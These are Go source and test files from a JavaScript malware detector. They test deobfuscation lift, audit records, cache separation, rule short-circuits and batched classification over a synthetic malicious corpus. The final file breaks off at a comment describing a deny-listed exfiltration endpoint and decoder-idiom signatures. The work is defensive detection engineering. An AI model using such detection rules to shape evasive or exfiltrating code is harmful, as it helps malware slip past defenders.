// TestDeobfuscateNoNewFalseNegatives is the adversarial safety gate on the
// clean (unobfuscated) malicious corpus: any sample the raw configuration
// (raw-trained detector, deob off) flags must still be flagged by the deob
// configuration (normalized-trained detector, deob on). Normalization is
// allowed to find *more* malware, never to hide any.
func TestDeobfuscateNoNewFalseNegatives(t *testing.T) {
	det, samples := trainedDetector(t)
	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
	off := New(det, Config{CacheSize: -1})
	on := New(normalizedDetector(t), Config{CacheSize: -1, Deobfuscate: deobOnCfg()})
	flagged, kept := 0, 0
	for i, s := range samples {
		if !s.Malicious {
			continue
		}
		name := fmt.Sprintf("mal%d.js", i)
		a := off.ScanSource(ctx, name, s.Source)
		if a.Err != nil {
			t.Fatalf("%s: %v", name, a.Err)
		}
		if !a.Malicious {
			continue // already missed without deobfuscation; not our regression
		}
		flagged++
		b := on.ScanSource(ctx, name, s.Source)
		if b.Err != nil {
			t.Fatalf("%s (deob on): %v", name, b.Err)
		}
		if b.Malicious {
			kept++
		} else {
			t.Errorf("%s: flipped malicious -> benign with deobfuscation on (passes %v)",
				name, b.DeobPasses)
		}
	}
	if flagged == 0 {
		t.Fatal("no malicious sample flagged even without deobfuscation; corpus or detector broken")
	}
	t.Logf("clean malicious corpus: %d/%d flagged verdicts preserved with deobfuscation on", kept, flagged)
}

// TestDeobfuscationLift measures the point of the whole subsystem: for
// each paper obfuscator, the detection rate on obfuscated malicious
// samples and the false-positive rate on obfuscated benign samples, with
// the raw configuration (raw-trained detector, deob off) vs the deob
// configuration (normalized-trained detector, deob on). The markdown table
// printed under -v is the source of the EXPERIMENTS.md deobfuscation
// table.
//
// The assertions mirror the acceptance criteria, not a fantasy: detection
// must hold or improve on at least two of the four obfuscators, and
// wherever it drops, the benign FPR must drop at least as much — on this
// corpus the raw detector's near-perfect "detection" of heavy obfuscation
// is FP-driven (it flags anything weird; see EXPERIMENTS.md Table IV), so
// a joint fall of hits and false alarms is the inflation deflating, not
// signal being lost.
func TestDeobfuscationLift(t *testing.T) {
	if testing.Short() {
		t.Skip("trains a detector and scans 4 obfuscated corpora")
	}
	det, _ := trainedDetector(t)
	samples := corpus.Generate(corpus.Config{Benign: 40, Malicious: 40, Seed: 77})
	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
	off := New(det, Config{CacheSize: -1})
	on := New(normalizedDetector(t), Config{CacheSize: -1, Deobfuscate: deobOnCfg()})
	reg := obfuscate.Registry(7)

	var table strings.Builder
	table.WriteString("| Obfuscator | detected off | detected on | lift | FPR off | FPR on |\n")
	table.WriteString("|---|---|---|---|---|---|\n")
	heldOrImproved := 0
	for _, name := range obfuscate.PaperOrder() {
		obf := reg[name]
		var mal, hitOff, hitOn, ben, fpOff, fpOn int
		for i, s := range samples {
			osrc, err := obf.Obfuscate(s.Source)
			if err != nil {
				t.Fatalf("%s: obfuscate sample %d: %v", name, i, err)
			}
			id := fmt.Sprintf("%s-%d.js", name, i)
			roff := off.ScanSource(ctx, id, osrc)
			ron := on.ScanSource(ctx, id, osrc)
			if s.Malicious {
				mal++
				if roff.Malicious {
					hitOff++
				}
				if ron.Malicious {
					hitOn++
				}
			} else {
				ben++
				if roff.Malicious {
					fpOff++
				}
				if ron.Malicious {
					fpOn++
				}
			}
		}
		pct := func(n, total int) string {
			return fmt.Sprintf("%d/%d (%.0f%%)", n, total, 100*float64(n)/float64(total))
		}
		fmt.Fprintf(&table, "| %s | %s | %s | %+d | %s | %s |\n",
			name, pct(hitOff, mal), pct(hitOn, mal), hitOn-hitOff, pct(fpOff, ben), pct(fpOn, ben))
		if hitOn >= hitOff {
			heldOrImproved++
		} else if fpOff-fpOn < hitOff-hitOn {
			t.Errorf("%s: detection dropped %d -> %d without a matching FP drop (%d -> %d): real signal lost",
				name, hitOff, hitOn, fpOff, fpOn)
		}
	}
	t.Logf("obfuscated corpus, raw config vs deob config (seed 77):\n%s", table.String())
	if heldOrImproved < 2 {
		t.Errorf("detection held or improved on %d obfuscators, want >= 2", heldOrImproved)
	}
}

// TestDeobProvenance: a scan that fires passes reports them on the Result,
// in the audit record's deob_passes field, and in Stats.Deobfuscated, and
// the deob metrics land in the scan context's registry.
func TestDeobProvenance(t *testing.T) {
	det, samples := trainedDetector(t)
	log, records := openAudit(t)
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	eng := New(det, Config{CacheSize: -1, Audit: log, Deobfuscate: deobOnCfg()})

	// An obfuscated sample guarantees at least one pass fires.
	obf := obfuscate.Registry(7)["Jfogs"]
	osrc, err := obf.Obfuscate(samples[0].Source)
	if err != nil {
		t.Fatal(err)
	}
	stats := eng.ScanSources(ctx, []Source{{Name: "fog.js", Content: osrc}}, nil)
	if stats.Deobfuscated != 1 {
		t.Errorf("Stats.Deobfuscated = %d, want 1", stats.Deobfuscated)
	}
	recs := records()
	if len(recs) != 1 {
		t.Fatalf("audit records = %d, want 1", len(recs))
	}
	if len(recs[0].DeobPasses) == 0 {
		t.Errorf("audit record carries no deob_passes for a deobfuscated scan")
	}
	if _, ok := recs[0].StagesMS["scan.deob"]; !ok {
		t.Errorf("stages_ms misses scan.deob: %v", recs[0].StagesMS)
	}
	if got := reg.Counter(deobfuscate.RunsMetric, "", obs.Labels{"result": "changed"}).Value(); got != 1 {
		t.Errorf("deob changed-runs metric = %d, want 1", got)
	}
}

// TestDeobCacheNotAliased pins the cache anti-aliasing rule: a pipeline
// verdict computed over normalized source must not answer a scan that
// wants the raw pipeline, and vice versa — the two configurations are
// different pipelines that may legitimately disagree.
func TestDeobCacheNotAliased(t *testing.T) {
	det, samples := trainedDetector(t)
	reg := obs.NewRegistry()
	ctx := obs.WithRegistry(context.Background(), reg)
	eng := New(det, Config{Deobfuscate: deobOnCfg()})
	src := samples[0].Source

	first := eng.ScanSource(ctx, "a.js", src)
	if first.Err != nil {
		t.Fatal(first.Err)
	}
	// Same engine, per-request deob off: the cached deob-on verdict must
	// not be served; the raw pipeline runs and overwrites the entry.
	second := eng.ScanSource(WithDeobfuscate(ctx, false), "b.js", src)
	if second.Tier == TierCache {
		t.Fatal("deob-on cache entry served to a deob-off scan")
	}
	if second.Tier != TierPipeline {
		t.Fatalf("tier = %q, want pipeline", second.Tier)
	}
	// And back: the entry now answers for deob-off, so a deob-on scan
	// recomputes again.
	third := eng.ScanSource(ctx, "c.js", src)
	if third.Tier == TierCache {
		t.Fatal("deob-off cache entry served to a deob-on scan")
	}
	// Matching setting hits.
	fourth := eng.ScanSource(ctx, "d.js", src)
	if fourth.Tier != TierCache {
		t.Fatalf("tier = %q on matching-setting rescan, want cache", fourth.Tier)
	}
}

// TestWithDeobfuscateOverride: the context override flips the stage on for
// an engine whose default is off, and the result carries the passes.
func TestWithDeobfuscateOverride(t *testing.T) {
	det, samples := trainedDetector(t)
	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
	eng := New(det, Config{CacheSize: -1}) // deob off by default

	obf := obfuscate.Registry(7)["Jfogs"]
	osrc, err := obf.Obfuscate(samples[0].Source)
	if err != nil {
		t.Fatal(err)
	}
	plain := eng.ScanSource(ctx, "a.js", osrc)
	if len(plain.DeobPasses) != 0 {
		t.Fatalf("DeobPasses = %v without override", plain.DeobPasses)
	}
	forced := eng.ScanSource(WithDeobfuscate(ctx, true), "b.js", osrc)
	if forced.Err != nil {
		t.Fatal(forced.Err)
	}
	if len(forced.DeobPasses) == 0 {
		t.Fatal("override did not run the deobfuscation stage")
	}
}

// BenchmarkScanObfuscated measures the end-to-end scan cost of obfuscated
// input with the deobfuscation stage off and on — the price of the
// robustness the lift table buys. Cache disabled so every iteration pays
// the full pipeline.
func BenchmarkScanObfuscated(b *testing.B) {
	det, samples := trainedDetector(b)
	var mal string
	for _, s := range samples {
		if s.Malicious {
			mal = s.Source
			break
		}
	}
	reg := obfuscate.Registry(7)
	for _, name := range obfuscate.PaperOrder() {
		osrc, err := reg[name].Obfuscate(mal)
		if err != nil {
			b.Fatalf("%s: %v", name, err)
		}
		for _, mode := range []struct {
			label string
			cfg   deobfuscate.Config
		}{
			{"deob=off", deobfuscate.Config{}},
			{"deob=on", deobOnCfg()},
		} {
			eng := New(det, Config{CacheSize: -1, Deobfuscate: mode.cfg})
			ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
			b.Run(name+"/"+mode.label, func(b *testing.B) {
				b.SetBytes(int64(len(osrc)))
				for i := 0; i < b.N; i++ {
					if res := eng.ScanSource(ctx, "bench.js", osrc); res.Err != nil {
						b.Fatal(res.Err)
					}
				}
			})
		}
	}
}
