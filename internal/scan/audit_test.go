package scan

import (
	"bufio"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"jsrevealer/internal/audit"
	"jsrevealer/internal/obs"
)

// openAudit builds an audit log in a temp dir and returns it with a reader
// for its records.
func openAudit(t *testing.T) (*audit.Log, func() []audit.Record) {
	t.Helper()
	dir := t.TempDir()
	log, err := audit.Open(dir, audit.Options{Registry: obs.NewRegistry()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { log.Close() })
	return log, func() []audit.Record {
		t.Helper()
		if err := log.Sync(); err != nil {
			t.Fatal(err)
		}
		f, err := os.Open(filepath.Join(dir, audit.ActiveFile))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		var recs []audit.Record
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			var r audit.Record
			if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
				t.Fatalf("bad audit line %q: %v", sc.Text(), err)
			}
			recs = append(recs, r)
		}
		return recs
	}
}

func TestScanAuditTrail(t *testing.T) {
	log, records := openAudit(t)
	flagEvil := ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		// A child span inside the pipeline must land in stages_ms.
		_, sp := obs.StartSpan(ctx, "classify")
		sp.End()
		return src == "evil()", nil
	})
	eng := New(flagEvil, Config{Workers: 1, Audit: log, AuditModel: "modelsha"})

	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())
	ctx = audit.WithMeta(ctx, audit.Meta{Source: "scan", RequestID: "req-7"})
	remote := obs.SpanContext{TraceID: obs.NewTraceID(), SpanID: 9, Sampled: true}
	ctx = obs.ContextWithRemote(ctx, remote)

	res := eng.ScanSource(ctx, "evil.js", "evil()")
	if res.Verdict != VerdictMalicious {
		t.Fatalf("verdict = %v", res.Verdict)
	}

	recs := records()
	if len(recs) != 1 {
		t.Fatalf("got %d audit records, want 1", len(recs))
	}
	r := recs[0]
	sum := sha256.Sum256([]byte("evil()"))
	if r.SHA256 != hex.EncodeToString(sum[:]) {
		t.Errorf("sha = %s, want digest of the content", r.SHA256)
	}
	if r.Kind != "verdict" || r.Verdict != "MALICIOUS" || !r.Malicious {
		t.Errorf("verdict fields = %+v", r)
	}
	if r.Tier != "pipeline" || r.Cache != "miss" {
		t.Errorf("tier/cache = %s/%s, want pipeline/miss", r.Tier, r.Cache)
	}
	if r.Model != "modelsha" || r.Source != "scan" || r.RequestID != "req-7" {
		t.Errorf("provenance = %+v", r)
	}
	if r.TraceID != remote.TraceID.String() {
		t.Errorf("trace id = %s, want the caller's %s", r.TraceID, remote.TraceID)
	}
	if _, ok := r.StagesMS["classify"]; !ok {
		t.Errorf("stages = %v, want a classify entry", r.StagesMS)
	}
	if r.Bytes != int64(len("evil()")) || r.DurationMS < 0 {
		t.Errorf("size/duration = %+v", r)
	}

	// A rescan of identical content is answered (and audited) from the cache.
	eng.ScanSource(ctx, "evil-again.js", "evil()")
	recs = records()
	if len(recs) != 2 {
		t.Fatalf("got %d records, want 2", len(recs))
	}
	if recs[1].Tier != "cache" || recs[1].Cache != "hit" {
		t.Errorf("cached record tier/cache = %s/%s", recs[1].Tier, recs[1].Cache)
	}
	if recs[1].SHA256 != recs[0].SHA256 {
		t.Error("cache-hit record lost the content digest")
	}
}

func TestScanAuditDegradedAndFailed(t *testing.T) {
	log, records := openAudit(t)
	boom := ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		return false, errors.New("pipeline down")
	})
	ctx := obs.WithRegistry(context.Background(), obs.NewRegistry())

	// Fallback covers the failure: tier=fallback with the taxonomy reason.
	eng := New(boom, Config{Workers: 1, Audit: log, CacheSize: -1})
	if res := eng.ScanSource(ctx, "deg.js", "x()"); res.Verdict != VerdictDegraded {
		t.Fatalf("verdict = %v", res.Verdict)
	}
	// Fallback disabled: no verdict at all, tier=none.
	strict := New(boom, Config{Workers: 1, Audit: log, CacheSize: -1, NoFallback: true})
	if res := strict.ScanSource(ctx, "fail.js", "x()"); res.Verdict != VerdictFailed {
		t.Fatalf("verdict = %v", res.Verdict)
	}

	recs := records()
	if len(recs) != 2 {
		t.Fatalf("got %d records, want 2", len(recs))
	}
	if recs[0].Tier != "fallback" || recs[0].Verdict != "DEGRADED" || recs[0].Reason != "internal" {
		t.Errorf("degraded record = %+v", recs[0])
	}
	if recs[0].Cache != "off" {
		t.Errorf("cache = %s, want off (cache disabled)", recs[0].Cache)
	}
	if recs[1].Tier != "none" || recs[1].Verdict != "FAILED" || recs[1].Error == "" {
		t.Errorf("failed record = %+v", recs[1])
	}
}

func TestScanAuditDisabledZeroRecords(t *testing.T) {
	// The default engine has no audit sink; nothing must be collected and
	// nothing must panic.
	eng := New(ClassifierFunc(func(ctx context.Context, src string) (bool, error) {
		return false, nil
	}), Config{Workers: 1})
	res := eng.ScanSource(obs.WithRegistry(context.Background(), obs.NewRegistry()), "a.js", "a()")
	if res.Verdict != VerdictBenign || res.Err != nil {
		t.Fatalf("result = %+v", res)
	}
}

// BenchmarkScanSourceTraced is BenchmarkScanSource with the full
// observability stack on: trace store, stage timings, and the audit log.
// Compared against BenchmarkScanSource it bounds what tracing+audit cost
// the hot path.
func BenchmarkScanSourceTraced(b *testing.B) {
	det, samples := trainedDetector(b)
	dir := b.TempDir()
	log, err := audit.Open(dir, audit.Options{Registry: obs.NewRegistry()})
	if err != nil {
		b.Fatal(err)
	}
	defer log.Close()
	eng := New(det, Config{CacheSize: -1, Audit: log, AuditModel: "benchsha"})
	store := obs.NewTraceStore(obs.TraceStoreOptions{})
	ctx := obs.WithTraceStore(obs.WithRegistry(context.Background(), obs.NewRegistry()), store)
	ctx = audit.WithMeta(ctx, audit.Meta{Source: "scan", RequestID: "bench"})
	src := samples[0].Source
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if res := eng.ScanSource(ctx, "bench.js", src); res.Err != nil {
			b.Fatal(res.Err)
		}
	}
}
