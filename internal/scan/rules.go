// The engine's side of the declarative rules layer (internal/rules). Rules
// run in two stages: a cheap deny-only text pass before triage
// (scanSourceFront), and the full pass — lists, signatures, path predicates
// — after deobfuscation, just before the model (scanSource/prepareSource).
// Everything here is nil-safe on a disabled rules layer: with Config.Rules
// unset the engine's verdicts are bit-identical to a rules-free build.
package scan

import (
	"context"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/rules"
)

// currentRules reads the live rule set once; nil means rules are disabled
// (no provider, or a provider with nothing loaded yet).
func (e *Engine) currentRules() *rules.Set {
	if e.cfg.Rules == nil {
		return nil
	}
	return e.cfg.Rules.Current()
}

// evalRules runs the full rules pass over one script with the same panic
// isolation the classifier gets: a rule evaluation must never take down a
// scan, so a panic yields the zero verdict (no action, no hits) and the
// model decides alone. The normalized source is parsed only when a loaded
// rule actually inspects path contexts; a parse failure is not an error —
// text rules still apply, path predicates simply cannot match.
func (e *Engine) evalRules(ctx context.Context, set *rules.Set, name, raw, normalized string) (v rules.Verdict) {
	if set == nil {
		return rules.Verdict{}
	}
	ctx, sp := obs.StartSpan(ctx, "scan.rules")
	defer sp.End()
	defer func() {
		if r := recover(); r != nil {
			v = rules.Verdict{}
		}
	}()
	in := rules.Input{Name: name, Raw: raw, Normalized: normalized}
	if set.NeedsAST() {
		lim := parser.Limits{MaxDepth: e.cfg.MaxDepth, MaxTokens: e.cfg.MaxTokens, Cancel: ctx.Done()}
		if prog, err := parser.ParseWithLimits(normalized, lim); err == nil {
			in.Prog = prog
		}
	}
	return set.Eval(ctx, in)
}

// finishRules finalizes a rules-layer short-circuit from the pipeline stage
// (forcing hit → malicious, allow hit → benign): the counterpart of
// finishScan for verdicts the model never saw. res.RuleHits is already set
// by the caller and is cached with the verdict so repeat content keeps its
// provenance.
func (e *Engine) finishRules(ctx context.Context, res Result, prov provenance, key cacheKey, malicious bool) (Result, provenance) {
	res.Malicious = malicious
	if malicious {
		res.Verdict = VerdictMalicious
	} else {
		res.Verdict = VerdictBenign
	}
	res.Tier = TierRules
	if e.cache != nil {
		e.cache.put(key, res.Verdict, res.Malicious, TierRules, e.deobOn(ctx), prov.rset.Generation(), res.RuleHits)
	}
	if e.cfg.Audit != nil {
		prov.tier = TierRules
	}
	return res, prov
}
