package scan

// Tiers: every finished Result names the tier that produced its verdict.
// The tiered pipeline exists because the corpus cost distribution is wildly
// asymmetric — most real-world scripts are plainly benign, and spending a
// full parse + embed + classify on each of them buys nothing. The triage
// tier answers those in microseconds; everything it cannot clear escalates
// to the full pipeline, whose behavior is unchanged.
const (
	// TierTriage: the lexical pre-filter cleared the script as benign
	// without parsing (Config.Triage enabled and suspicion below
	// threshold). Triage never produces a malicious verdict.
	TierTriage = "triage"
	// TierPipeline: the full parse → embed → classify pipeline decided.
	TierPipeline = "pipeline"
	// TierCache: the verdict was served from the verdict cache. The
	// cached entry remembers its own producing tier (see cacheEntry.tier
	// and audit.Record.CacheTier).
	TierCache = "cache"
	// TierRules: the declarative rules layer decided — a deny-list hit or
	// a forcing signature forced malicious, or an allow-list hit
	// short-circuited benign — and the model never ran (or its score was
	// overridden). Result.RuleHits names the rules.
	TierRules = "rules"
	// TierFallback: the pipeline could not finish and the heuristic
	// fallback answered (Verdict is degraded).
	TierFallback = "fallback"
	// TierNone: nothing produced a verdict (failed; fallback disabled or
	// itself broken).
	TierNone = "none"
)
