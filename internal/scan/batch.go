// Batched scanning: when the classifier can split detection into a
// per-script front half (parse + path extraction) and a matrix-shaped back
// half (embedding + classification), the engine amortizes the back half
// across the whole batch. Phase 1 fans the front half out over the worker
// pool — guards, cache, triage, and prepare all run concurrently, and
// anything that finishes there (cache hit, triage clear, guard failure) is
// emitted immediately. Phase 2 then classifies every surviving script in
// ONE call, which lets the neural embedding run as a single batched pass
// (see nn.EmbedBatch) instead of paying per-script pool and dispatch
// overhead. Verdicts are identical to the per-script path; only the cost
// moves.
package scan

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"jsrevealer/internal/js/parser"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/rules"
)

// BatchClassifier is optionally implemented by classifiers that split
// detection into a per-script prepare and a batched classify
// (core.Detector does). PrepareBatch runs the per-script front of the
// pipeline and returns opaque state; ClassifyBatch consumes a slice of
// such states and returns one verdict per element, in order. Both must be
// safe for concurrent use; the engine wraps each in the same panic
// isolation and deadlines as DetectWithLimits.
type BatchClassifier interface {
	PrepareBatch(ctx context.Context, src string, lim parser.Limits) (any, error)
	ClassifyBatch(ctx context.Context, prepared []any) ([]bool, error)
}

// pendingScan is one script that passed the guards, the cache, and triage
// in phase 1 and now awaits the batched back half.
type pendingScan struct {
	idx      int             // slot in the results slice
	src      string          // script content (degrade needs it on batch failure)
	key      cacheKey        // verdict-cache key, zero when caching and auditing are off
	prepared any             // classifier state from PrepareBatch
	res      Result          // partial result (Path/Bytes set)
	prov     provenance      // audit provenance so far
	sctx     context.Context // per-file context: stage timings + trace
	prepDur  time.Duration   // phase-1 wall time (load, guards, prepare)
	follower bool            // identical content is pipeline-bound under another slot
}

// batchDedup collapses byte-identical content within one batched run. The
// first script to claim a content key becomes the leader and goes to the
// pipeline; later claimants become followers, skip prepare entirely, and
// are finalized after the batch from the cache entry the leader wrote — a
// directory of duplicated bundles costs one pipeline run, not N.
type batchDedup struct {
	mu   sync.Mutex
	seen map[cacheKey]struct{}
}

func newBatchDedup() *batchDedup {
	return &batchDedup{seen: make(map[cacheKey]struct{})}
}

// claim reports whether the caller is the first in this batch to scan
// content with this key (the leader).
func (d *batchDedup) claim(key cacheKey) bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	if _, ok := d.seen[key]; ok {
		return false
	}
	d.seen[key] = struct{}{}
	return true
}

// prepareSource runs phase 1 for one source: the shared front (guards,
// cache, dedup, triage) and, when the script survives, the classifier's
// prepare under the per-file deadline. A nil pendingScan means the result
// is final.
func (e *Engine) prepareSource(ctx context.Context, ins *instruments, bc BatchClassifier, dedup *batchDedup, name, src string) (Result, provenance, *pendingScan) {
	fctx, res, prov, key, state := e.scanSourceFront(ctx, ins, dedup, name, src)
	switch state {
	case frontDone:
		return res, prov, nil
	case frontFollower:
		return res, prov, &pendingScan{src: src, res: res, sctx: fctx, follower: true}
	}
	pctx, cancel := context.WithTimeout(fctx, e.cfg.Timeout)
	csrc := src
	if e.deobOn(fctx) {
		// Same contract as the per-script path: the classifier prepares the
		// normalized source, everything else answers for the original bytes.
		csrc, res.DeobPasses = e.normalizeSource(pctx, src)
		prov.deobPasses = res.DeobPasses
	}
	if prov.rset != nil {
		// Full rules pass, identical to the per-script path: a forcing or
		// allow hit finalizes the script here and it never joins the batch.
		rv := e.evalRules(pctx, prov.rset, name, src, csrc)
		res.RuleHits = rv.Hits
		if rv.Action != rules.ActionNone {
			cancel()
			res, prov = e.finishRules(fctx, res, prov, key, rv.Action == rules.ActionMalicious)
			return res, prov, nil
		}
	}
	prepared, err := e.prepare(pctx, bc, csrc)
	cancel()
	if err != nil {
		res, prov = e.finishScan(fctx, res, prov, key, src, false, err)
		return res, prov, nil
	}
	return res, prov, &pendingScan{
		src: src, key: key, prepared: prepared,
		res: res, prov: prov, sctx: fctx,
	}
}

// prepare runs the classifier's front half in an isolated goroutine, with
// the same panic and deadline hardening as classify.
func (e *Engine) prepare(ctx context.Context, bc BatchClassifier, src string) (any, error) {
	type outcome struct {
		prepared any
		err      error
	}
	ch := make(chan outcome, 1)
	go func() {
		defer func() {
			if r := recover(); r != nil {
				ch <- outcome{err: fmt.Errorf("%w: panic: %v", ErrInternal, r)}
			}
		}()
		lim := parser.Limits{MaxDepth: e.cfg.MaxDepth, MaxTokens: e.cfg.MaxTokens}
		p, err := bc.PrepareBatch(ctx, src, lim)
		ch <- outcome{prepared: p, err: classifyError(err, ctx)}
	}()
	select {
	case o := <-ch:
		return o.prepared, o.err
	case <-ctx.Done():
		return nil, fmt.Errorf("%w: %v", ErrTimeout, ctx.Err())
	}
}

// classifyBatch runs the classifier's batched back half with panic
// isolation under one Config.Timeout for the whole batch. The back half is
// bounded matrix arithmetic — no parsing, no per-script pathology — so the
// per-file deadline is a generous bound for it; if it is somehow exceeded,
// every pending script degrades to the fallback rather than being dropped.
func (e *Engine) classifyBatch(ctx context.Context, bc BatchClassifier, prepared []any) ([]bool, error) {
	ctx, cancel := context.WithTimeout(ctx, e.cfg.Timeout)
	defer cancel()
	type outcome struct {
		verdicts []bool
		err      error
	}
	ch := make(chan outcome, 1)
	go func() {
		defer func() {
			if r := recover(); r != nil {
				ch <- outcome{err: fmt.Errorf("%w: panic: %v", ErrInternal, r)}
			}
		}()
		v, err := bc.ClassifyBatch(ctx, prepared)
		ch <- outcome{verdicts: v, err: classifyError(err, ctx)}
	}()
	select {
	case o := <-ch:
		if o.err == nil && len(o.verdicts) != len(prepared) {
			return nil, fmt.Errorf("%w: batch returned %d verdicts for %d scripts",
				ErrInternal, len(o.verdicts), len(prepared))
		}
		return o.verdicts, o.err
	case <-ctx.Done():
		return nil, fmt.Errorf("%w: %v", ErrTimeout, ctx.Err())
	}
}

// runBatch is phase 2: one ClassifyBatch call over every pending leader,
// then per-script finalization (cache, metrics, audit, emit). When the
// whole batch fails, each script degrades individually — the fallback is
// per-script, so one poisoned batch still yields a verdict per file. Each
// Result's Duration is its own phase-1 time plus the shared batch time,
// not the time it idled at the barrier. Followers (scripts whose content an
// earlier leader already took through the pipeline) are finalized last by
// re-running scanSource: in the common case that is a cache hit on the
// leader's entry; if the leader failed to produce a cacheable verdict, the
// follower runs the per-script pipeline itself.
func (e *Engine) runBatch(ctx context.Context, ins *instruments, bc BatchClassifier, pend []*pendingScan, results []Result, done []bool, emit func(Result)) {
	var followers []*pendingScan
	leaders := pend[:0]
	for _, p := range pend {
		if p.follower {
			followers = append(followers, p)
		} else {
			leaders = append(leaders, p)
		}
	}
	if len(leaders) > 0 {
		prepared := make([]any, len(leaders))
		for i, p := range leaders {
			prepared[i] = p.prepared
		}
		bctx, sp := obs.StartSpan(ctx, "scan.batch")
		bstart := time.Now()
		verdicts, err := e.classifyBatch(bctx, bc, prepared)
		batchDur := time.Since(bstart)
		sp.End()
		for i, p := range leaders {
			var res Result
			var prov provenance
			if err == nil {
				res, prov = e.finishScan(p.sctx, p.res, p.prov, p.key, p.src, verdicts[i], nil)
			} else {
				res, prov = e.finishScan(p.sctx, p.res, p.prov, p.key, p.src, false, err)
			}
			res.Duration = p.prepDur + batchDur
			ins.observe(res)
			e.recordResult(p.sctx, res, prov)
			results[p.idx] = res
			done[p.idx] = true
			if emit != nil {
				emit(res)
			}
		}
	}
	for _, p := range followers {
		fstart := time.Now()
		res, prov := e.scanSource(p.sctx, ins, p.res.Path, p.src)
		res.Duration = p.prepDur + time.Since(fstart)
		ins.observe(res)
		e.recordResult(p.sctx, res, prov)
		results[p.idx] = res
		done[p.idx] = true
		if emit != nil {
			emit(res)
		}
	}
}

// scanSourcesBatched is ScanSources for a BatchClassifier: concurrent
// phase 1 with early emission of everything that never needs the pipeline,
// then one batched classification for the rest.
func (e *Engine) scanSourcesBatched(ctx context.Context, bc BatchClassifier, srcs []Source, emit func(Result)) Stats {
	start := time.Now()
	ins := newInstruments(obs.FromContext(ctx))
	results := make([]Result, len(srcs))
	done := make([]bool, len(srcs))
	pending := make([]*pendingScan, len(srcs))
	dedup := newBatchDedup()
	workers := e.cfg.Workers
	if workers > len(srcs) {
		workers = len(srcs)
	}
	var next int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(atomic.AddInt64(&next, 1)) - 1
				if i >= len(srcs) || ctx.Err() != nil {
					return
				}
				ins.wait.ObserveDuration(time.Since(start))
				fstart := time.Now()
				sctx, sp := obs.StartSpan(ctx, "scan.file")
				ins.inflight.Inc()
				res, prov, pend := e.prepareSource(sctx, ins, bc, dedup, srcs[i].Name, srcs[i].Content)
				ins.inflight.Dec()
				sp.End()
				if pend == nil {
					res.Duration = time.Since(fstart)
					ins.observe(res)
					e.recordResult(sctx, res, prov)
					results[i] = res
					done[i] = true
					if emit != nil {
						emit(res)
					}
					continue
				}
				pend.idx = i
				pend.prepDur = time.Since(fstart)
				pending[i] = pend
			}
		}()
	}
	wg.Wait()
	pend := pending[:0]
	for _, p := range pending {
		if p != nil {
			pend = append(pend, p)
		}
	}
	e.runBatch(ctx, ins, bc, pend, results, done, emit)
	// Sources skipped by an engine-wide cancellation still get a result.
	for i := range results {
		if !done[i] {
			results[i] = Result{
				Path:    srcs[i].Name,
				Verdict: VerdictFailed,
				Tier:    TierNone,
				Err:     fmt.Errorf("%w: scan cancelled: %v", ErrTimeout, ctx.Err()),
			}
			ins.observe(results[i])
			if emit != nil {
				emit(results[i])
			}
		}
	}
	return summarize(results, time.Since(start))
}

// scanFilesBatched is ScanFiles for a BatchClassifier: load + phase 1 in
// the worker pool, one batched classification for whatever survives.
func (e *Engine) scanFilesBatched(ctx context.Context, bc BatchClassifier, paths []string) ([]Result, Stats) {
	start := time.Now()
	ins := newInstruments(obs.FromContext(ctx))
	results := make([]Result, len(paths))
	done := make([]bool, len(paths))
	pending := make([]*pendingScan, len(paths))
	dedup := newBatchDedup()
	workers := e.cfg.Workers
	if workers > len(paths) {
		workers = len(paths)
	}
	var next int64
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				i := int(atomic.AddInt64(&next, 1)) - 1
				if i >= len(paths) || ctx.Err() != nil {
					return
				}
				ins.wait.ObserveDuration(time.Since(start))
				fstart := time.Now()
				sctx, sp := obs.StartSpan(ctx, "scan.file")
				ins.inflight.Inc()
				res, prov, src, finished := e.loadFile(sctx, paths[i])
				var pend *pendingScan
				if !finished {
					res, prov, pend = e.prepareSource(sctx, ins, bc, dedup, paths[i], src)
				}
				ins.inflight.Dec()
				sp.End()
				if pend == nil {
					res.Duration = time.Since(fstart)
					ins.observe(res)
					e.recordResult(sctx, res, prov)
					results[i] = res
					done[i] = true
					continue
				}
				pend.idx = i
				pend.prepDur = time.Since(fstart)
				pending[i] = pend
			}
		}()
	}
	wg.Wait()
	pend := pending[:0]
	for _, p := range pending {
		if p != nil {
			pend = append(pend, p)
		}
	}
	e.runBatch(ctx, ins, bc, pend, results, done, nil)
	// Files skipped by an engine-wide cancellation still get a result.
	for i := range results {
		if !done[i] {
			results[i] = Result{
				Path:    paths[i],
				Verdict: VerdictFailed,
				Tier:    TierNone,
				Err:     fmt.Errorf("%w: scan cancelled: %v", ErrTimeout, ctx.Err()),
			}
			ins.observe(results[i])
		}
	}
	return results, summarize(results, time.Since(start))
}
