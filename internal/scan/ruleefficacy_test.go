package scan

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"jsrevealer/internal/corpus"
	"jsrevealer/internal/obfuscate"
	"jsrevealer/internal/obs"
	"jsrevealer/internal/rules"
)

// efficacyRules is the rule set behind the EXPERIMENTS.md "Rule efficacy"
// table: one deny-listed IOC (the loopback exfil endpoint every synthetic
// malicious sample reports to) and two signatures over the decoder idiom
